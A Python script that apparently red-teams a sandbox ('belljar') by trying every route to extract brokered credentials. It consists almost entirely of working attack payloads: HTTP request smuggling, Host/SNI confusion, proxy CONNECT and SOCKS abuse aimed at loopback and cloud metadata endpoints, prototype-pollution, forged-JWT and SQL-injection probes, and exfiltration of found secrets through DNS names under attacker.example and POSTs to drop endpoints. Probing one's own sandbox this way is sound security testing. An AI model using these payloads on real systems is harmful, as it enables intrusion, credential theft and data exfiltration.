"""Tries to get a secret out of what the sandbox may reach: services, the proxy, hosts that are given a key, names.

Every answer is kept whole: what is not masked in it is found by whoever reads the report.
"""

import base64
import json
import os
import re
import socket
import ssl
import struct
import sys
import threading

from common import MARK, REPORT, TOLD, attempt, later, play, read

SERVICES = "/run/belljar-services.sock"
PROXY = ("127.0.0.1", 3128)
LONGEST = 512 << 10
ECHOES = [
    "raw",
    "base64",
    "base64-1",
    "base64-2",
    "base64url",
    "hex",
    "HEX",
    "percent",
    "PERCENT",
    "form",
    "json",
    "html",
    "gzip",
    "chunks",
    "location",
    "cookie",
    "reason",
    "trailer",
]


def everything(stream, first=b""):
    """All that a peer says until it ends, or falls silent."""
    said = first
    try:
        while len(said) < LONGEST:
            piece = stream.recv(65_536)
            if not piece:
                break
            said += piece
    except (OSError, ssl.SSLError):
        pass
    return said


def secured(stream, name):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    return context.wrap_socket(stream, server_hostname=name)


def opened(host, port, limit=8):
    stream = socket.create_connection((host, port), timeout=limit)
    return stream


def say(host, request, sni=None, port=443, limit=1):
    """Sends bytes to a host and gives back all that comes until it falls silent."""
    with opened(host, port) as stream:
        if port == 443:
            stream = secured(stream, sni or host)
        stream.sendall(request)
        stream.settimeout(limit)
        return everything(stream)


def get(host, path="/", headers="", method="GET", body=b"", port=443, sni=None, authority=None):
    head = f"{method} {path} HTTP/1.1\r\nhost: {authority or host}\r\n{headers}"
    if body:
        head += f"content-length: {len(body)}\r\n"
    return say(host, head.encode("latin-1", errors="replace") + b"connection: close\r\n\r\n" + body, sni, port, 5)


def bound():
    return TOLD["bound"]


def rendered(place, path):
    """A path as the rule of a host wants it: where a placeholder goes, it goes in."""
    return path.replace("HERE", "credential-brokered") if place["kind"] == "path" else path.replace("HERE", "there")


# --- Hosts that are given a key --------------------------------------------------------------------------------------


def echoes():
    """The host says what it was told, in every spelling."""
    for place in bound():
        for how in ECHOES:
            host, path = place["host"], rendered(place, f"/echo/{how}/HERE")
            body = b"key=credential-brokered&x=1" if place["kind"] == "body" else b""
            headers = "content-type: application/x-www-form-urlencoded\r\n" if body else ""
            if place["kind"] == "placeholder":
                headers += "authorization: Bearer credential-brokered\r\n"
            if place["kind"] == "git":
                # The rule lets git's own requests pass and no others.
                path, headers = "/acme/app.git/info/refs?service=git-upload-pack", f"x-how: {how}\r\n"
            if place["kind"] == "aws":
                headers += signed(host)
            later(f"echo {host} {how}", get, host, path, headers, "POST" if body else "GET", body)


def signed(host):
    """A client's own signature, with keys of its own."""
    scope = "AKIDMINE/20261122/eu-west-1/s3/aws4_request"
    return (
        f"x-amz-date: 20261122T120000Z\r\nx-amz-content-sha256: UNSIGNED-PAYLOAD\r\n"
        f"authorization: AWS4-HMAC-SHA256 Credential={scope}, SignedHeaders=host;x-amz-content-sha256;x-amz-date, Signature={'0' * 64}\r\n"
    )


def pieces_of_an_answer():
    """Ranges, conditions, compression and methods by which an answer comes in parts, or another way."""
    for place in bound():
        host, path = place["host"], rendered(place, "/echo/raw/HERE")
        for headers in [
            "range: bytes=0-40\r\n",
            "range: bytes=40-80, 120-160\r\n",
            "range: bytes=-30\r\n",
            "if-range: x\r\nrange: bytes=60-\r\n",
            "accept-encoding: gzip\r\n",
            "accept-encoding: br, zstd, deflate\r\n",
            "te: trailers, gzip\r\n",
            "want-digest: sha-256\r\n",
            "expect: 100-continue\r\n",
            "connection: authorization\r\n",
            "connection: close, x-api-key, authorization\r\n",
            "authorization: Bearer mine\r\nAuthorization: Basic bWluZQ==\r\nAUTHORIZATION: x\r\n",
            "x-api-key: mine\r\nX-Api-Key: mine\r\n",
            "x-http-method-override: TRACE\r\n",
            "x-forwarded-host: free.test\r\n",
            "forwarded: host=free.test\r\n",
            "max-forwards: 0\r\n",
            "upgrade: h2c\r\nconnection: upgrade, http2-settings\r\nhttp2-settings: AAMAAABk\r\n",
            "cookie: a=credential-brokered\r\n",
            "user-agent: credential-brokered\r\n",
            "referer: https://free.test/credential-brokered\r\n",
            "x: credential-brokered\r\n",
        ]:
            for method in ["GET", "POST"]:
                later(f"{method} {host} {headers!r}", get, host, path, headers, method)
        for method in ["TRACE", "OPTIONS", "CONNECT", "HEAD", "DEBUG", "PROPFIND", "get", "G\0ET", "TRACK", "PATCH"]:
            later(f"{method} {host}", get, host, path, "", method)


def answers_that_are_none():
    """Redirects, refusals, interim answers and answers that break off."""
    for place in bound():
        host = place["host"]
        for status in [100, 103, 204, 301, 302, 304, 307, 400, 401, 407, 418, 421, 429, 500, 502, 511]:
            later(f"{status} {host}", get, host, rendered(place, f"/status/{status}/HERE"))
        for path in [
            "/redirect/free",
            "/redirect/plain",
            "/redirect/unbound",
            "/cut",
            "/tokens/oauth/token",
            "/oauth/token",
            "/login/oauth/access_token",
        ]:
            later(f"{path} {host}", get, host, path)
        later(f"plain {host}", get, host, "/echo/raw/x", "", "GET", b"", 80)


def requests_that_are_two():
    """Requests that two readers read in two ways: whatever is behind the first may go to the server unchecked, or unmasked."""
    for place in bound():
        host = place["host"]
        second = f"GET /echo/raw/second HTTP/1.1\r\nhost: {TOLD['free']}\r\n\r\n".encode()
        for number, request in enumerate(smuggled(host, second)):
            later(f"smuggled {number} {host}", say, host, request)


def smuggled(host, second):
    line = f"POST /echo/raw/first HTTP/1.1\r\nhost: {host}\r\n".encode()
    yield line + b"content-length: 4\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n" + second
    yield line + b"transfer-encoding: xchunked\r\ncontent-length: 3\r\n\r\nabc" + second
    yield line + b"transfer-encoding: chunked\r\ntransfer-encoding: identity\r\n\r\n0\r\n\r\n" + second
    yield line + b"content-length: 3\r\ncontent-length: 0\r\n\r\nabc" + second
    yield line + b"content-length: +3\r\n\r\nabc" + second
    yield line + b"content-length: 3, 3\r\n\r\nabc" + second
    yield line + b"transfer-encoding : chunked\r\n\r\n0\r\n\r\n" + second
    yield line + b"x: y\r\n folded: authorization\r\n\r\n" + second
    yield line + b'transfer-encoding: chunked\r\n\r\n1;a="\r\n\r\n' + second + b'"\r\na\r\n0\r\n\r\n'
    yield line + b"transfer-encoding: chunked\r\n\r\nFFFFFFFFFFFFFFFF1\r\na\r\n0\r\n\r\n" + second
    yield line + b"\nx: y\n\n" + second
    yield line + b"content-length: 0\r\n\r\n" + second + second
    yield (
        line
        + b"trailer: authorization\r\ntransfer-encoding: chunked\r\n\r\n0\r\nauthorization: Bearer mine\r\n\r\n"
        + second
    )
    yield b"\r\n\r\n" + line + b"content-length: 0\r\n\r\n" + second
    yield line.replace(b"HTTP/1.1", b"HTTP/1.0") + b"connection: keep-alive\r\ncontent-length: 0\r\n\r\n" + second
    yield line.replace(b"HTTP/1.1", b"HTTP/0.9") + second
    yield f"GET http://{TOLD['free']}/echo/raw/absolute HTTP/1.1\r\nhost: {host}\r\n\r\n".encode()
    yield f"GET https://{host}@{TOLD['free']}/ HTTP/1.1\r\nhost: {host}\r\n\r\n".encode()
    yield f"GET / HTTP/1.1\r\nhost: {TOLD['free']}\r\nhost: {host}\r\n\r\n".encode()
    yield f"GET / HTTP/1.1\r\nhost: {TOLD['free']}#@{host}\r\n\r\n".encode()
    yield f"GET / HTTP/1.1\r\nhost: {host}:8443\r\n\r\n".encode()
    yield b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0" * 9
    yield f"CONNECT {TOLD['free']}:443 HTTP/1.1\r\nhost: {host}\r\n\r\n".encode() + second


def names_that_differ():
    """One name for the connection, another for TLS, a third for the request."""
    free, unbound = TOLD["free"], TOLD["unbound"]
    for place in bound():
        host = place["host"]
        for to, sni, authority in [
            (free, host, host),
            (host, free, host),
            (host, host, free),
            (free, free, host),
            (host, unbound, host),
            (unbound, host, host),
            (host, host, host.upper() + "."),
            (host, host, host + ":443"),
            (host, host, f"{host}\0.{free}"),
            (host, f"x.{host}", host),
            (free, free, host + "."),
            (TOLD["plain"], TOLD["plain"], host),
        ]:
            later(f"names {to} {sni} {authority}", get, to, "/echo/raw/x", "", "GET", b"", 443, sni, authority)
            later(f"plain names {to} {authority}", get, to, "/echo/raw/x", "", "GET", b"", 80, None, authority)


def web_sockets():
    """The server says over a WebSocket what it was told at its beginning."""
    for place in bound():
        headers = "upgrade: websocket\r\nconnection: upgrade\r\nsec-websocket-version: 13\r\nsec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\nsec-websocket-extensions: permessage-deflate\r\n"
        request = f"GET {rendered(place, '/ws/HERE')} HTTP/1.1\r\nhost: {place['host']}\r\n{headers}\r\n"
        later(f"websocket {place['host']}", say, place["host"], request.encode())


def tokens_of_their_own():
    """A host that hands out tokens for the key that it was given."""
    for place in bound():
        for path in ["/oauth/token", "/oauth2/v1/token", "/login/oauth/access_token", "/sts/token"]:
            later(
                f"token {path}",
                get,
                place["host"],
                path,
                "content-type: application/x-www-form-urlencoded\r\n",
                "POST",
                b"grant_type=client_credentials",
            )


# --- The proxy -------------------------------------------------------------------------------------------------------


def the_proxy():
    free, unbound = TOLD["free"], TOLD["unbound"]
    first = bound()[0]["host"]
    requests = [
        f"GET http://{host}/echo/raw/x HTTP/1.1\r\nhost: {named}\r\n{more}connection: close\r\n\r\n"
        for host, named in [
            (first, first),
            (first, free),
            (free, first),
            (unbound, first),
            ("127.0.0.1", first),
            ("127.0.0.1:%d" % TOLD["admin"], "x"),
            ("169.254.169.254", first),
            ("localhost:%d" % TOLD["admin"], "x"),
            ("[::1]:%d" % TOLD["admin"], "x"),
        ]
        for more in ["", "proxy-authorization: Basic bWluZTptaW5l\r\n", "authorization: Bearer credential-brokered\r\n"]
    ]
    for target in [
        f"{first}:443",
        f"{free}:443",
        f"{unbound}:443",
        f"127.0.0.1:{TOLD['admin']}",
        f"localhost:{TOLD['admin']}",
        "169.254.169.254:80",
        "0x7f000001:80",
        "2130706433:80",
        f"0:{TOLD['admin']}",
        f"127.1:{TOLD['admin']}",
        f"[::1]:{TOLD['admin']}",
        f"[::ffff:127.0.0.1]:{TOLD['admin']}",
        "10.0.0.1:22",
        f"{first}:22",
        f"{first}\0.{free}:443",
        f"{first}:443@{free}:443",
        "metadata.google.internal:80",
        "host.docker.internal:80",
        f"{TOLD['address']}:443",
        f"{TOLD['address']}:53",
    ]:
        requests.append(f"CONNECT {target} HTTP/1.1\r\nhost: {target}\r\n\r\nGET / HTTP/1.1\r\nhost: x\r\n\r\n")
    for number, request in enumerate(requests):
        later(f"proxy {number}", to_proxy, request.encode())
    for host in [
        first,
        f"{first}\0.{free}",
        f"{free}\r\nx",
        unbound,
        "127.0.0.1",
        "127.1",
        "::1",
        "169.254.169.254",
        TOLD["address"],
    ]:
        for port in [443, 80, TOLD["admin"], 22]:
            later(f"socks {host!r}:{port}", socks, host.encode(), port)
    later("socks 4", to_proxy, b"\x04\x01" + struct.pack("!H", TOLD["admin"]) + bytes([127, 0, 0, 1]) + b"\0")
    later("socks bind", to_proxy, b"\x05\x01\0" + b"\x05\x02\0\x01\0\0\0\0\0\0")
    later("socks udp", to_proxy, b"\x05\x01\0" + b"\x05\x03\0\x01\0\0\0\0\0\0")
    later("socks with a name", to_proxy, b"\x05\x01\x02" + b"\x01\x04user\x04pass")


def to_proxy(request):
    with opened(*PROXY) as stream:
        stream.sendall(request)
        stream.settimeout(1)
        return everything(stream)


def socks(host, port):
    with opened(*PROXY) as stream:
        stream.settimeout(1)
        stream.sendall(b"\x05\x01\0")
        stream.recv(2)
        stream.sendall(b"\x05\x01\0\x03" + bytes([len(host)]) + host + struct.pack("!H", port))
        answer = stream.recv(10)
        stream.sendall(b"GET /echo/raw/x HTTP/1.1\r\nhost: " + host + b"\r\n\r\n")
        return everything(stream, answer)


# --- Services --------------------------------------------------------------------------------------------------------


def raw_service(request, limit=15):
    with socket.socket(socket.AF_UNIX) as stream:
        stream.settimeout(limit)
        stream.connect(SERVICES)
        stream.sendall(request)
        return everything(stream)


def ask(value, path="/v1/services", method="POST", headers=""):
    body = value if isinstance(value, bytes) else json.dumps(value).encode()
    head = f"{method} {path} HTTP/1.1\r\nhost: belljar\r\nconnection: close\r\ncontent-type: application/json\r\n{headers}content-length: {len(body)}\r\n\r\n"
    return raw_service(head.encode("latin-1") + body)


def services():
    """Every service says what it was asked, in every spelling; refuses, redirects and breaks off."""
    for service in TOLD["services"]:
        for how in ECHOES:
            # That it is reached at all is tried each time.
            (attempt if how == "raw" else later)(
                f"service {service} {how}",
                ask,
                {"service": service, "method": "say", "args": {"how": how, "text": "x"}},
            )
        for status in [301, 302, 400, 401, 403, 404, 422, 429, 500, 503]:
            later(
                f"service {service} {status}",
                ask,
                {"service": service, "method": "fail", "args": {"status": str(status)}},
            )
        for text in [
            "../../x",
            "x\r\nx: y",
            "{token}",
            "${TOKEN}",
            "credential-brokered",
            "%0d%0ax: y",
            "@evil.test/",
            "x" * 5_000,
            "\0",
            "{{token}}",
        ]:
            later(
                f"service {service} {text[:20]!r}",
                ask,
                {"service": service, "method": "say", "args": {"how": text, "text": text}},
            )


def services_by_other_ways():
    """Names that every object has, forged tokens, other people's sessions, other routes, other methods, other framing."""
    good = {"service": "mirror", "method": "say", "args": {"how": "raw", "text": "x"}}
    for name in [
        "constructor",
        "__proto__",
        "toString",
        "hasOwnProperty",
        "hidden",
        "",
        ".",
        "say.say",
        "*",
        "mirror",
        "valueOf",
        "then",
    ]:
        later(f"method {name!r}", ask, {**good, "method": name})
        later(f"service {name!r}", ask, {**good, "service": name})
    for headers in [
        "authorization: Bearer mine\r\n",
        "authorization: Bearer ' OR '1'='1\r\n",
        "authorization: Bearer eyJhbGciOiJub25lIn0.e30.\r\n",
        "x-belljar-token: mine\r\n",
        "x-forwarded-for: 127.0.0.1\r\n",
        "host: admin\r\n",
        "cookie: token=x\r\n",
        "x-session: " + TOLD["sessions"][0] + "\r\n",
        "transfer-encoding: chunked\r\n",
        "expect: 100-continue\r\n",
        "upgrade: websocket\r\nconnection: upgrade\r\n",
        "te: trailers\r\n",
    ]:
        later(f"services {headers!r}", ask, good, "/v1/services", "POST", headers)
    routes = [
        "/",
        "/v1",
        "/v1/turns",
        "/v1/control",
        "/v1/names",
        "/v1/files/1",
        "/v1/files/../control",
        "/api/proxy",
        "/api/sessions",
        "/v1/tokens",
        "/v1/sessions",
        "/metrics",
        "/v1/services/mirror",
        "/v1/services/..%2fturns",
        "/v1/services/__proto__",
        "/v1/services?token=x",
        "//v1/turns",
        "/V1/TURNS",
        "/v1/services/../turns",
        "/v1/models",
        "/v1/messages",
        "/v1/secrets",
    ]
    for route in routes:
        for method in ["GET", "POST", "PUT", "DELETE", "TRACE", "OPTIONS", "CONNECT", "HEAD", "PATCH"]:
            later(f"{method} {route}", ask, good, route, method)
    for session in TOLD["sessions"]:
        for more in [
            {"session": session},
            {"token": session},
            {"call": session},
            {"idempotency_key": session},
            {"__proto__": {"service": "hidden"}},
        ]:
            later(f"services {more}", ask, {**good, **more})
    body = json.dumps(good).encode()
    for number, request in enumerate(
        [
            b"POST /v1/services HTTP/1.1\r\nhost: x\r\ncontent-length: 5\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\nPOST /v1/turns HTTP/1.1\r\nhost: x\r\ncontent-length: 2\r\n\r\n{}",
            b"POST /v1/services HTTP/1.1\r\nhost: x\r\ncontent-length: "
            + str(len(body)).encode()
            + b"\r\n\r\n"
            + body
            + b"POST /v1/control HTTP/1.1\r\nhost: x\r\ncontent-length: 2\r\n\r\n{}",
            b"POST /v1/services\r\nx: y HTTP/1.1\r\nhost: x\r\n\r\n",
            b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
            b"\x16\x03\x01\0\0",
            b"\0" * 200,
            b"GET " + b"/" * 70_000,
            b"CONNECT " + TOLD["free"].encode() + b":443 HTTP/1.1\r\nhost: x\r\n\r\n",
            b'{"service":"mirror"}',
            b"POST /v1/services HTTP/1.1\r\nhost: x\r\ncontent-length: 60\r\n\r\n"
            + b'{"service":"mirror","service":"hidden","method":"say","args":{}}',
        ]
    ):
        later(f"raw services {number}", raw_service, request, 3)


# --- Names, and what has no name -------------------------------------------------------------------------------------


def query(name, kind, number=1):
    labels = b"".join(bytes([len(part)]) + part for part in name.encode("latin-1").split(b".") if part)
    return struct.pack("!HHHHHH", number, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", kind, 1)


def by_udp(server, packet, port=53):
    with socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM) as asker:
        asker.settimeout(2)
        asker.sendto(packet, (server, port))
        return asker.recv(4_096)


def by_tcp(server, packet, port=53):
    with opened(server, port, 3) as asker:
        asker.sendall(struct.pack("!H", len(packet)) + packet)
        return everything(asker)


def spoils():
    """Everything that was found until now and looks like a secret, in parts that fit into a name."""
    parts = [b"nothing"]
    for name in sorted(os.listdir(REPORT)) if os.path.isdir(REPORT) else []:
        if name.startswith("found"):
            data = read(os.path.join(REPORT, name), 1 << 20)
            parts += [place for place in re.findall(re.escape(MARK) + rb"[0-9A-Za-z]+", data)][:20]
    return sorted(set(parts))


def names():
    """What was found, in names: under hosts that exist and hosts that do not, in every kind of question, to every server."""
    for part in spoils():
        for spelled in [
            part.decode(),
            part.hex(),
            base64.b32encode(part).decode().rstrip("=").lower(),
            part[::-1].decode(),
        ]:
            spelled = ".".join(spelled[at : at + 60] for at in range(0, len(spelled), 60))
            for beneath in [TOLD["unbound"], TOLD["wild"], TOLD["bound"][0]["host"], "attacker.example"]:
                name = f"{spelled}.{beneath}"
                later(f"name {name}", socket.getaddrinfo, name, 443)
                for kind in [1, 5, 10, 15, 16, 28, 33, 64, 65, 255]:
                    later(f"question {kind} {name}", by_udp, "198.18.0.1", query(name, kind))
                later(f"by tcp {name}", by_tcp, "198.18.0.1", query(name, 16))
    for server in ["8.8.8.8", "1.1.1.1", TOLD["resolver"], "127.0.0.53", "169.254.169.253", "2001:4860:4860::8888"]:
        later(f"resolver {server}", by_udp, server, query(f"x.{TOLD['unbound']}", 16))
        later(f"resolver by tcp {server}", by_tcp, server, query(f"x.{TOLD['unbound']}", 16))
        later(f"resolver by tls {server}", by_tcp, server, query(f"x.{TOLD['unbound']}", 16), 853)
    for server in ["dns.google", "cloudflare-dns.com", "1.1.1.1", TOLD["free"]]:
        packet = base64.urlsafe_b64encode(query(f"x.{TOLD['unbound']}", 16)).decode().rstrip("=")
        later(f"doh {server}", get, server, f"/dns-query?dns={packet}", "accept: application/dns-message\r\n")


def addresses():
    """Where machines keep what sandboxes must not see."""
    for host in [
        "169.254.169.254",
        "169.254.170.2",
        "100.100.100.200",
        "fd00:ec2::254",
        "10.0.0.1",
        "172.17.0.1",
        "192.168.0.1",
        "198.18.0.1",
        TOLD["address"],
        TOLD["resolver"],
        "127.0.0.1",
        "::1",
        "0.0.0.0",
        "127.0.0.2",
    ]:
        for port in [22, 53, 80, 443, 2375, 3128, 3129, 5432, 6443, 8080, TOLD["admin"], TOLD["model"]]:
            later(f"address {host}:{port}", lambda host=host, port=port: say_plainly(host, port))


def say_plainly(host, port):
    with opened(host, port, 2) as stream:
        stream.sendall(
            b"GET /latest/meta-data/ HTTP/1.1\r\nhost: metadata.google.internal\r\nmetadata-flavor: Google\r\nconnection: close\r\n\r\n"
        )
        stream.settimeout(2)
        return everything(stream)


def what_was_found_is_carried_out():
    """To whoever takes it: hosts that are allowed and are given no key, and hosts that are not allowed."""
    for part in spoils():
        for host in [TOLD["free"], TOLD["plain"], TOLD["unbound"]]:
            later(f"carry to {host}", get, host, "/drop", "content-type: application/octet-stream\r\n", "POST", part)
            later(f"carry in the path to {host}", get, host, "/drop/" + part.hex())


# --- At random -------------------------------------------------------------------------------------------------------


def a_request(dice):
    place = dice.choice(bound())
    host = place["host"]
    others = [host, host, host, TOLD["free"], TOLD["plain"], TOLD["unbound"], host.upper(), host + "."]
    path = rendered(
        place, f"/{dice.choice(['echo', 'echo', 'echo', 'status'])}/{dice.choice(ECHOES + ['302', '500'])}/HERE"
    )
    lines = [
        dice.choice(
            [
                "x: y",
                "range: bytes=%d-%d" % (dice.randrange(300), dice.randrange(300, 600)),
                "accept-encoding: gzip",
                "connection: keep-alive",
                "authorization: credential-brokered",
                "authorization: Bearer credential-brokered",
                "x-api-key: credential-brokered",
                "te: trailers",
                "content-type: application/json",
                "transfer-encoding: chunked",
                "content-length: 2",
                "host: " + dice.choice(others),
                "expect: 100-continue",
                " folded",
                "x:" + "y" * dice.randrange(9_000),
                "upgrade: websocket",
                "connection: upgrade",
            ]
        )
        for _ in range(dice.randrange(6))
    ]
    end = dice.choice(["\r\n"] * 8 + ["\n", "\r"])
    request = end.join(
        [
            f"{dice.choice(['GET', 'POST', 'PUT', 'TRACE', 'HEAD'])} {path} HTTP/1.{dice.choice('1110')}",
            "host: " + dice.choice(others),
            *lines,
            "",
            "",
        ]
    ).encode()
    body = dice.choice(
        [
            b"",
            b"{}",
            b"key=credential-brokered",
            b'{"key":"credential-brokered"}',
            b"2\r\n{}\r\n0\r\n\r\n",
            os.urandom(200),
        ]
    )
    sent = request + body
    with opened(dice.choice([host] * 6 + others), 443) as stream:
        stream = secured(stream, dice.choice([host] * 6 + others))
        stream.settimeout(1)
        while sent:
            piece = dice.randrange(1, 400)
            stream.sendall(sent[:piece])
            sent = sent[piece:]
        return everything(stream)


def a_call(dice):
    service = dice.choice(TOLD["services"] + ["crm", "__proto__"])
    args = {
        "how": dice.choice(ECHOES),
        "text": dice.choice(["x", "credential-brokered", "é" * dice.randrange(400), "\u2028", "../" * 9]),
    }
    value = {"service": service, "method": dice.choice(["say", "say", "fail", "hidden", "constructor"]), "args": args}
    if dice.random() < 0.3:
        value[dice.choice(["token", "session", "call", "idempotency_key", "__proto__"])] = dice.choice(
            ["x", TOLD["sessions"][0], None, 1, {}]
        )
    body = json.dumps(value).encode()
    if dice.random() < 0.2:
        at = dice.randrange(len(body))
        body = body[:at] + os.urandom(1) + body[at + 1 :]
    return ask(body)


def a_name(dice):
    part = dice.choice(spoils())
    spelled = dice.choice([part.hex(), part.decode(), base64.b32encode(part).decode().strip("=").lower()])
    cut = dice.randrange(8, 60)
    spelled = ".".join(spelled[at : at + cut] for at in range(0, len(spelled), cut))
    name = f"{spelled}.{dice.choice([TOLD['unbound'], TOLD['wild'], TOLD['free'], 'x' + TOLD['bound'][0]['host']])}"
    return by_udp("198.18.0.1", query(name, dice.choice([1, 16, 28, 65, 255]), dice.randrange(65_536)))


def many_at_once(dice):
    """Caps are used up; what is refused then, and what comes after it, is kept like all else."""
    place = dice.choice(bound())
    threads = [
        threading.Thread(target=attempt, args=("crowd", get, place["host"], rendered(place, "/echo/raw/HERE")))
        for _ in range(dice.randrange(5, 40))
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return get(place["host"], rendered(place, "/echo/base64/HERE"))


def through_the_proxy(dice):
    host = dice.choice([place["host"] for place in bound()] + [TOLD["free"], TOLD["unbound"]])
    target = dice.choice(
        [f"http://{host}/echo/raw/x", f"https://{host}/echo/raw/x", f"{host}:443", "*", f"//{host}/", "/echo/raw/x"]
    )
    line = f"{dice.choice(['GET', 'CONNECT', 'POST'])} {target} HTTP/1.1\r\nhost: {dice.choice([host, TOLD['free'], 'localhost'])}\r\nconnection: close\r\n\r\n"
    return to_proxy(line.encode())


if __name__ == "__main__":
    play(
        [
            echoes,
            pieces_of_an_answer,
            answers_that_are_none,
            requests_that_are_two,
            names_that_differ,
            web_sockets,
            tokens_of_their_own,
            the_proxy,
            services,
            services_by_other_ways,
            addresses,
            names,
            what_was_found_is_carried_out,
        ],
        [a_request, a_request, a_call, a_name, many_at_once, through_the_proxy],
    )
    sys.stdout.flush()
